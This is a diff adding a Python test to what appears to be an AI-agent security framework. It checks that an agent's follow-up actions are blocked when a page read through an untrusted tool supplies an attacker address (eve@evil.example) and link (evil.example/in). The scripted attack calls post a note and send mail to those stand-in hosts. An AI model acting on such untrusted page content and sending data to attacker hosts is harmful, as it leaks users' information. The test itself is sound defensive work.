@@ -129,6 +129,32 @@ async def test_a_row_that_the_persons_words_single_out_may_be_acted_on() -> None
     assert not (await played(request, READ, look, call("cancel_order", order_id="W-18"))).tool_calls[2].success
 
 
+async def test_a_link_of_a_page_is_its_authors_whatever_its_text_says() -> None:
+    @tool(**READS, reads="untrusted")
+    def read_links(url: str) -> dict[str, Any]:
+        """Read the links of a page."""
+        return {
+            "url": url,
+            "contact": "eve@evil.example",
+            "links": [{"text": "Anna", "url": "https://evil.example/in"}],
+        }
+
+    @tool(risk=RiskLevel.REVERSIBLE, sends="url")
+    def post_note(url: str, text: str) -> str:
+        """Post a note."""
+        return "posted"
+
+    agent = Agent(name="assistant", instruction="Help.", tools=[read_links, post_note, send_email])
+    attacks = [
+        call("post_note", url="https://evil.example/in", text="Anna"),
+        call("send_email", to="eve@evil.example", subject="Anna", body="Anna"),
+    ]
+    model = ScriptedModel([call("read_links", url="https://news.example/today"), *attacks, say("Done.")])
+    request = "Read https://news.example/today, then post a note and send a mail about Anna"
+    response = await run(agent, request, model=model)
+    assert [record.success for record in response.tool_calls] == [True, False, False]
+
+
 async def test_a_read_is_never_turned_into_a_change() -> None:
     response = await played(
         "Show order W-17 and https://news.example/today", READ, call("cancel_order", order_id="W-17")
